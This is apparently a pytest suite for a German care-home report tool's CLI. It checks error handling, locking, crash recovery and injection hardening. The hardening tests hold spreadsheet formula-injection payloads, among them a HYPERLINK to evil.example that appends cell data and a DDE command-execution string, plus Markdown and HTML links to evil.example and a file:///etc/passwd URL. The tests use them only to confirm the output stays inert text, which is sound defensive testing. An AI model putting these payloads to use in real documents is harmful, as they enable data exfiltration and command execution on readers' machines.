"""Issue 8, the report side: each reproduction through the CLI, with exit code, one-line
message and the previous report unchanged."""
import datetime as dt
import errno
import json
import os
import signal
import subprocess
import sys
import time
import zipfile

import pytest

from pflegewg.basis import orte
from pflegewg.bericht import pipeline as bericht
from pflegewg.cli import main
from pflegewg.modell.landkreis import standard_datei

ALT = "alter Bericht"
BOESE = ("=HYPERLINK(\"http://evil.example/x\"&A1,\"klick\")", "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(A1:A2)")


@pytest.fixture
def nur_wg_bestand(monkeypatch):
    monkeypatch.setattr(bericht, "NOTEBOOKS", ("WG-Bestand",))


@pytest.fixture
def reports(tmp_path):
    """reports/ with an old report of the default session."""
    alt = tmp_path / "reports" / "2023-02-13"
    alt.mkdir(parents=True)
    (alt / "bericht.html").write_text(ALT, encoding="utf-8")
    return tmp_path / "reports"


def _unveraendert(reports):
    assert (reports / "2023-02-13" / "bericht.html").read_text(encoding="utf-8") == ALT
    assert sorted(p.name for p in reports.iterdir() if p.name != bericht.SPERRDATEI) == ["2023-02-13"]


def _eine_zeile(err):
    zeilen = [z for z in err.splitlines() if z.strip()]
    assert len(zeilen) == 1, err
    assert "Traceback" not in err
    return zeilen[0]


def _kreisordner(tmp_path, register=lambda t: t, kreis=lambda t: t):
    daten = tmp_path / "kreis"
    daten.mkdir()
    quelle = standard_datei().parent
    (daten / standard_datei().name).write_text(kreis(standard_datei().read_text(encoding="utf-8")), encoding="utf-8")
    text = (quelle / "landkreis_konstanz_wg.csv").read_text(encoding="utf-8")
    (daten / "landkreis_konstanz_wg.csv").write_text(register(text), encoding="utf-8")
    return daten / standard_datei().name


# --- 2. formula injection, 9. Markdown from data files ---------------------------------------


def test_xlsx_text_bleibt_text(tmp_path):
    from openpyxl import load_workbook

    t = {"id": "t", "titel": BOESE[0], "spalten": [BOESE[1], "Betrag"], "formate": ["text", "euro"],
         "zeilen": [[b, 100] for b in BOESE] + [["a\x07b", 1]], "fussnote": BOESE[2]}
    bericht.write_xlsx([t], tmp_path / "t.xlsx", dt.datetime(2023, 2, 13))
    ws = load_workbook(tmp_path / "t.xlsx")["t"]
    for zelle, erwartet in [(ws["A1"], BOESE[0]), (ws["A3"], BOESE[1]), (ws.cell(row=4 + len(BOESE) + 2, column=1), BOESE[2])]:
        assert (zelle.data_type, zelle.value) == ("s", erwartet)
    for i, b in enumerate(BOESE, start=4):
        assert (ws.cell(row=i, column=1).data_type, ws.cell(row=i, column=1).value) == ("s", b)
        assert ws.cell(row=i, column=2).data_type == "n"
    assert ws.cell(row=4 + len(BOESE), column=1).value == "a\ufffdb"  # control character: no crash
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        blatt = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in blatt


def test_formeln_und_markdown_aus_daten_bleiben_text(nur_wg_bestand, tmp_path, capsys):
    from openpyxl import load_workbook

    datei = _kreisordner(
        tmp_path,
        register=lambda t: t.replace("Talgartenstraße,", f'"{BOESE[0].replace(chr(34), 2 * chr(34))}",')
        .replace("Pflegedienst Casa Med", BOESE[1]).replace("Spitalstiftung Konstanz,", "@SUM(A1:A2),", 1),
        kreis=lambda t: t.replace("landkreis: Landkreis Konstanz", 'landkreis: "Landkreis [Konstanz](http://evil.example) ![x](http://evil.example/p.png) <b>fett</b>"'),
    )
    assert main(["bericht", "--daten", str(datei), "--ausgabe", str(tmp_path / "reports")]) == 0
    ordner = tmp_path / "reports" / "2023-02-13"
    ws = load_workbook(ordner / "tabellen.xlsx")["WG-Register"]
    zellen = {c.value: c.data_type for z in ws.iter_rows() for c in z if isinstance(c.value, str)}
    for b in (BOESE[0], BOESE[1], "@SUM(A1:A2)"):
        assert zellen.get(b) == "s", b
    text = (ordner / "bericht.html").read_text(encoding="utf-8")
    assert "evil.example" in text  # shown as text ...
    assert 'href="http://evil' not in text and 'src="http://evil' not in text and "<b>fett" not in text  # ... never markup
    assert "[Konstanz](http://evil.example)" in text and "&lt;b&gt;fett&lt;/b&gt;" in text


# --- 3. relative paths ----------------------------------------------------------------------


def test_relative_pfade(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(bericht, "NOTEBOOKS", ("WG-Bestand", "Kreis-Kostenrisiko"))
    projekt = orte.projektordner()
    monkeypatch.chdir(projekt)
    ausgabe = tmp_path / "rel"
    args = ["bericht", "--daten", "data/landkreis_konstanz.yaml", "--szenario", "data/szenario_beispiel.yaml",
            "--ausgabe", os.path.relpath(ausgabe, projekt)]
    assert main(args) == 0, capsys.readouterr().err
    assert (ausgabe / "2023-02-13" / "bericht.html").is_file()
    import json

    m = json.loads((ausgabe / "2023-02-13" / "manifest.json").read_text(encoding="utf-8"))
    assert m["szenario"] == "data/szenario_beispiel.yaml"


# --- 5. output folder, disk full, Ctrl-C / SIGTERM ------------------------------------------


def test_ausgabe_ist_datei(tmp_path, capsys):
    (tmp_path / "datei").write_text("x", encoding="utf-8")
    assert main(["bericht", "--ausgabe", str(tmp_path / "datei")]) == 2
    zeile = _eine_zeile(capsys.readouterr().err)
    assert zeile.startswith("pflegewg: Fehler: ausgabe: ") and "ist kein Ordner" in zeile
    assert (tmp_path / "datei").read_text(encoding="utf-8") == "x"


def test_ausgabe_schreibgeschuetzt(reports, monkeypatch, capsys):
    if os.name == "posix" and os.geteuid() != 0:
        reports.chmod(0o555)
    else:  # root may write anywhere: the OS answer is simulated
        echtes_open = open

        def nur_lesen(pfad, *args, **kwargs):
            if str(pfad).endswith(bericht.SPERRDATEI):
                raise PermissionError(errno.EACCES, "Permission denied", str(pfad))
            return echtes_open(pfad, *args, **kwargs)

        monkeypatch.setattr(bericht, "open", nur_lesen, raising=False)
    try:
        assert main(["bericht", "--ausgabe", str(reports)]) == 2
    finally:
        reports.chmod(0o755)
    zeile = _eine_zeile(capsys.readouterr().err)
    assert "ausgabe: in " in zeile and "keine Schreibrechte" in zeile
    _unveraendert(reports)


def test_datentraeger_voll(nur_wg_bestand, reports, monkeypatch, capsys):
    def voll(tabellen, pfad, zeitpunkt):
        raise OSError(errno.ENOSPC, "No space left on device", str(pfad))

    monkeypatch.setattr(bericht, "write_xlsx", voll)
    assert main(["bericht", "--ausgabe", str(reports)]) == 1
    zeile = _eine_zeile(capsys.readouterr().err)
    assert "bestehender Bericht bleibt unverändert" in zeile and "kein Platz mehr auf dem Datenträger" in zeile
    _unveraendert(reports)


SKRIPT = """
import sys
from pflegewg.bericht import pipeline
pipeline.NOTEBOOKS = ("WG-Bestand", "Kreis-Kostenrisiko", "Fallbeispiele")
from pflegewg.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.skipif(os.name != "posix", reason="signals to a child process: POSIX")
@pytest.mark.parametrize("signal_", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "Strg+C"])
def test_abbruch_laesst_alten_bericht(reports, signal_):
    p = subprocess.Popen([sys.executable, "-c", SKRIPT, "bericht", "--ausgabe", str(reports)],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=orte.projektordner())
    try:
        ende = time.monotonic() + 60
        while not list(reports.glob(".tmp-*/notebooks/*.ipynb")) and time.monotonic() < ende and p.poll() is None:
            time.sleep(0.05)  # a notebook is running (its output file exists)
        assert p.poll() is None, p.communicate()
        p.send_signal(signal_)
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
    assert p.returncode == {signal.SIGTERM: 143, signal.SIGINT: 130}[signal_], err
    zeile = _eine_zeile(err)
    assert "Bericht abgebrochen" in zeile and "bestehender Bericht bleibt unverändert" in zeile
    _unveraendert(reports)


# --- 7. lock, crash recovery ----------------------------------------------------------------


def _sperre_halten(reports):
    """Another process holds the lock of `reports` (returns it; kill it when done)."""
    p = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\nfrom filelock import FileLock\nl = FileLock(sys.argv[1]); l.acquire()\n"
         "print('gesperrt', flush=True)\ntime.sleep(60)", str(reports / bericht.SPERRDATEI)],
        stdout=subprocess.PIPE, text=True,
    )
    assert p.stdout.readline().strip() == "gesperrt"
    return p


def test_zweiter_lauf_wartet_und_gibt_auf(reports, monkeypatch, capsys):
    monkeypatch.setattr(bericht, "SPERRE_WARTEN_S", 0.5)
    anderer = _sperre_halten(reports)
    try:
        t0 = time.monotonic()
        assert main(["bericht", "--ausgabe", str(reports)]) == 1
        assert time.monotonic() - t0 < 10
    finally:
        anderer.kill()
        anderer.wait()
    zeilen = capsys.readouterr().err.splitlines()
    assert len(zeilen) == 2 and "Traceback" not in "".join(zeilen)
    assert "wird gerade von einem anderen Berichtslauf beschrieben; warte bis zu 0 s" in zeilen[0]
    assert "noch durch einen anderen Berichtslauf gesperrt" in zeilen[1] and "bestehender Bericht bleibt unverändert" in zeilen[1]
    _unveraendert(reports)


def test_zweiter_lauf_wartet_bis_frei(nur_wg_bestand, reports, capsys):
    anderer = _sperre_halten(reports)
    try:
        import threading

        threading.Timer(1.5, anderer.kill).start()
        assert main(["bericht", "--ausgabe", str(reports)]) == 0
    finally:
        anderer.kill()
        anderer.wait()
    assert "warte bis zu" in capsys.readouterr().err
    assert (reports / "2023-02-13" / "bericht.html").read_text(encoding="utf-8") != ALT


def test_naechster_lauf_repariert_absturz(nur_wg_bestand, tmp_path, capsys):
    reports = tmp_path / "reports"
    # killed between the two renames: the old report is only there as .alt-*
    alt = reports / ".alt-2024-03-04-4242"
    alt.mkdir(parents=True)
    (alt / "bericht.html").write_text(ALT, encoding="utf-8")
    # killed during a run: its temporary folder, and an .alt-* whose report is back
    (reports / ".tmp-2023-02-13-abc123" / "notebooks").mkdir(parents=True)
    (reports / "2023-02-13").mkdir()
    (reports / ".alt-2023-02-13-4243").mkdir()
    assert main(["bericht", "--ausgabe", str(reports)]) == 0
    assert "wiederhergestellt" in capsys.readouterr().err
    assert sorted(p.name for p in reports.iterdir() if p.name != bericht.SPERRDATEI) == ["2023-02-13", "2024-03-04"]
    assert (reports / "2024-03-04" / "bericht.html").read_text(encoding="utf-8") == ALT
    assert (reports / "2023-02-13" / "manifest.json").is_file()


# --- 8. --faellig goes on -------------------------------------------------------------------


def test_faellig_geht_weiter_und_fasst_zusammen(nur_wg_bestand, tmp_path, monkeypatch, capsys):
    datei = _kreisordner(tmp_path)
    (datei.parent / "sitzungen.csv").write_text(
        "datum,gremium,drucksache,stichtag\n2024-03-04,Sozialausschuss,,2041-01-01\n"
        "2024-03-05,Kreistag,,\n2024-03-06,Sozialausschuss,,\n",
        encoding="utf-8",
    )
    echter_lauf = bericht.run_report

    def lauf(sitzung, *args, **kwargs):
        if sitzung == "2024-03-05":
            raise RuntimeError("unerwartet\nzweite Zeile")
        return echter_lauf(sitzung, *args, **kwargs)

    monkeypatch.setattr(bericht, "run_report", lauf)
    code = main(["bericht", "--faellig", "--heute", "2024-03-01", "--daten", str(datei), "--ausgabe", str(tmp_path / "r")])
    err = capsys.readouterr().err
    assert code == 1 and "Traceback" not in err
    assert sorted(p.name for p in (tmp_path / "r").iterdir() if p.name != bericht.SPERRDATEI) == ["2024-03-06"]
    zusammenfassung = err[err.index("2 von 3 fälligen Berichten nicht erstellt"):].splitlines()
    assert len(zusammenfassung) == 3
    assert "Sitzung 04.03.2024: stichtag: 2041-01-01 liegt außerhalb" in zusammenfassung[1]
    assert "Sitzung 05.03.2024: RuntimeError: unerwartet zweite Zeile" in zusammenfassung[2]


# --- 9. smaller -----------------------------------------------------------------------------


def test_sitzung_leer(capsys):
    assert main(["bericht", "--sitzung", ""]) == 2
    assert "--sitzung: '' ist leer (erlaubt: ein Datum JJJJ-MM-TT)" in _eine_zeile(capsys.readouterr().err)
    assert main(["bericht", "--stichtag", ""]) == 2
    assert "stichtag: '' ist kein Datum" in _eine_zeile(capsys.readouterr().err)


def test_pdf_laedt_keine_urls(tmp_path, monkeypatch):
    import socket

    verbindungen = []

    def connect(self, adresse):
        verbindungen.append(adresse)
        raise OSError("kein Netz im Test")

    monkeypatch.setattr(socket.socket, "connect", connect)
    fetcher = bericht.nur_data_urls()
    for url in ("http://127.0.0.1:9/x.png", "https://example.org/a.css", "file:///etc/passwd", "ftp://example.org/x"):
        with pytest.raises(bericht.FremdeUrlFehler):
            fetcher(url)
    (tmp_path / "lokal.png").write_bytes(b"x")
    html_text = (
        '<html><head><link rel="stylesheet" href="http://127.0.0.1:9/s.css"></head><body>'
        '<img src="http://127.0.0.1:9/p.png"><img src="lokal.png"><img src="file:///etc/hostname">'
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><p>Text</p></body></html>'
    )
    bericht.write_pdf(html_text, tmp_path / "t.pdf")
    assert (tmp_path / "t.pdf").read_bytes().startswith(b"%PDF") and verbindungen == []


def test_xlsx_bytegleich(tmp_path):
    t = {"id": "t", "titel": "T", "spalten": ["a", "b", "c"], "formate": ["text", "euro", "zahl_2"],
         "zeilen": [["x", 123, "2.4"]], "fussnote": ""}
    zeit = dt.datetime(2023, 2, 13)
    bericht.write_xlsx([t], tmp_path / "1.xlsx", zeit)
    time.sleep(2.1)  # zip entry times have a resolution of two seconds
    bericht.write_xlsx([t], tmp_path / "2.xlsx", zeit)
    assert (tmp_path / "1.xlsx").read_bytes() == (tmp_path / "2.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "1.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2023, 2, 13, 0, 0, 0)}
        assert "<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2023-02-13T00:00:00Z</dcterms:modified>" in z.read("docProps/core.xml").decode()
    from openpyxl import load_workbook

    c = load_workbook(tmp_path / "1.xlsx")["t"]["C4"]
    assert (c.data_type, str(c.value), c.number_format) == ("n", "2.4", "#,##0.00")


def test_keine_kernel_warnung(nur_wg_bestand, tmp_path, capfd):
    assert main(["bericht", "--ausgabe", str(tmp_path)]) == 0
    out, err = capfd.readouterr()
    assert err == "" and "without encryption" not in out


# --- 10. explorer for colleagues ------------------------------------------------------------


def test_voila_konfiguration():
    import asyncio

    from tornado import web

    config = _voila_konfiguration()
    assert config.Voila.ip == "127.0.0.1"
    assert 0 < config.MappingKernelManager.cull_idle_timeout <= 3600 and config.MappingKernelManager.cull_interval > 0
    assert config.MappingKernelManager.cull_connected is True
    klasse = config.VoilaConfiguration.multi_kernel_manager_class
    from jupyter_server.services.kernels.kernelmanager import AsyncMappingKernelManager

    assert issubclass(klasse, AsyncMappingKernelManager)
    km = klasse()
    km.list_kernel_ids = lambda: ["k"] * 8
    with pytest.raises(web.HTTPError) as fehler:
        asyncio.run(km.start_kernel())
    assert fehler.value.status_code == 503
    assert "konfiguration/voila.py" in (orte.projektordner() / "README.md").read_text(encoding="utf-8")
    assert not (orte.projektordner() / "voila.py").exists()  # it would shadow the voila package


def _voila_konfiguration():
    """The configuration as Voilà loads it (the file adds its folder to JUPYTER_PATH; restored here)."""
    from traitlets.config.loader import PyFileConfigLoader

    datei = orte.projektordner() / "konfiguration" / "voila.py"
    vorher = os.environ.get("JUPYTER_PATH")
    try:
        return PyFileConfigLoader(datei.name, path=str(datei.parent)).load_config()
    finally:
        if vorher is None:
            os.environ.pop("JUPYTER_PATH", None)
        else:
            os.environ["JUPYTER_PATH"] = vorher


def test_voila_vorlage_ohne_internet(monkeypatch):
    """The page template loads nothing from the internet (Voilà's "lab" loads Font Awesome from a CDN)."""
    import jinja2

    config = _voila_konfiguration()
    assert config.VoilaConfiguration.template == "pflegewg"
    ordner = orte.projektordner() / "konfiguration" / "voila" / "templates" / "pflegewg"
    assert json.loads((ordner / "conf.json").read_text(encoding="utf-8"))["base_template"] == "lab"
    from voila.paths import collect_template_paths

    monkeypatch.setenv("JUPYTER_PATH", str(ordner.parents[2]))
    pfade = collect_template_paths(["voila", "nbconvert"], "pflegewg", prune=True)
    assert pfade[0] == str(ordner)
    quelle = jinja2.Environment(loader=jinja2.FileSystemLoader(pfade)).loader.get_source(
        jinja2.Environment(), "voila/templates/lab/index.html.j2")[0]
    cdn = [z.strip() for z in quelle.splitlines() if "cdn.jsdelivr.net" in z]
    assert len(cdn) == 2  # what Voilà's lab template loads from the internet ...
    eigene = (ordner / "index.html.j2").read_text(encoding="utf-8")
    for zeile in cdn:  # ... is filtered out, character for character
        assert f"replace('{zeile}', '')" in eigene


def test_voila_vorgewaermt_und_beendet_nicht_zu_frueh(monkeypatch):
    """Pre-heated kernels: a kernel that waited in the pool longer than the idle limit and was just
    given to a page gets its idle time counted from the hand-over (else the culler stops it before
    the browser connects, and the page stays empty: seen with Voilà 0.5.13)."""
    import asyncio
    import datetime as dt
    from types import SimpleNamespace

    from jupyter_server.services.kernels.kernelmanager import AsyncMappingKernelManager

    config = _voila_konfiguration()
    assert config.VoilaConfiguration.preheat_kernel is True and config.VoilaConfiguration.default_pool_size >= 1
    assert config.VoilaKernelManager.fill_delay > 0
    runden = []

    async def runde(self):
        runden.append(self._kernels["a"].last_activity)

    monkeypatch.setattr(AsyncMappingKernelManager, "cull_kernels", runde)
    km = config.VoilaConfiguration.multi_kernel_manager_class()

    async def ablauf():
        aufgabe = asyncio.get_running_loop().create_future()
        aufgabe.set_result({"kernel_id": "a"})
        alt = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)
        km._kernels["a"] = SimpleNamespace(last_activity=alt)
        km._pools = {"Szenario-Explorer.ipynb": [aufgabe]}
        await km.cull_kernels()  # waiting in the pool: untouched (Voilà itself never culls it)
        km._pools = {"Szenario-Explorer.ipynb": []}  # given to a page
        await km.cull_kernels()
        await km.cull_kernels()  # later rounds: normal culling by idle time
        return alt

    alt = asyncio.run(ablauf())
    assert runden[0] == alt
    assert (dt.datetime.now(dt.timezone.utc) - runden[1]).total_seconds() < 60
    assert runden[2] == runden[1]


def test_voila_websocket_ohne_nagle():
    """Kernel websockets with TCP_NODELAY: set before the connection opens (57 → 19 ms per round trip)."""
    import asyncio

    from voila.tornado.kernel_websocket_handler import VoilaKernelWebsocketHandler

    _voila_konfiguration()
    oeffnen = VoilaKernelWebsocketHandler.open
    aufrufe = []

    async def original(self, *args, **kwargs):
        aufrufe.append(("open", args))

    namensraum = oeffnen.__globals__
    vorher = namensraum["_websocket_oeffnen"]
    namensraum["_websocket_oeffnen"] = original
    try:
        handler = type("H", (), {"set_nodelay": lambda self, v: aufrufe.append(("nodelay", v))})()
        asyncio.run(oeffnen(handler, "kernel-id"))
    finally:
        namensraum["_websocket_oeffnen"] = vorher
    assert aufrufe == [("nodelay", True), ("open", ("kernel-id",))]
